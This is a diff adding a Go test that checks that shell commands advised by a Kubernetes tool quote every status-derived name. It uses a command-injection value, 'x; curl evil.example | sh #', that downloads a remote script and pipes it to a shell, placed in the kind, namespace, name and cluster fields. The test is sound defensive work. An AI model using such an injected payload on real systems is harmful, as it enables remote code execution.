@@ -55,6 +55,21 @@ func TestEveryReasonHasAdvice(t *testing.T) {
 	}
 }
 
+// Names in a status may be anything: in a command that is advised each of them is one word.
+func TestAdviceIsMadeOfWords(t *testing.T) {
+	const evil = "x; curl evil.example | sh #"
+	for reason := range advice {
+		for _, kind := range []string{"AddonsLayer", "HelmRelease", "RemoteCluster", "Pod", evil} {
+			for _, command := range Advice("kubectl strata", evil, Link{Kind: kind, Namespace: evil, Name: evil, Reason: reason, Cluster: evil}) {
+				bare := strings.NewReplacer("'"+evil+"'", "", "'"+evil+"/"+evil+"'", "", "'CONTEXT-OF-"+evil+"'", "", "'"+strings.ToLower(evil)+"'", "").Replace(command)
+				if strings.ContainsAny(bare, ";|#") {
+					t.Errorf("%s on a %s is advised %s", reason, kind, command)
+				}
+			}
+		}
+	}
+}
+
 func TestTroubleOfPods(t *testing.T) {
 	for _, test := range []struct{ name, status, want string }{
 		{"ready", "{phase: Running, containerStatuses: [{name: a, ready: true, state: {running: {}}}]}", "0 "},
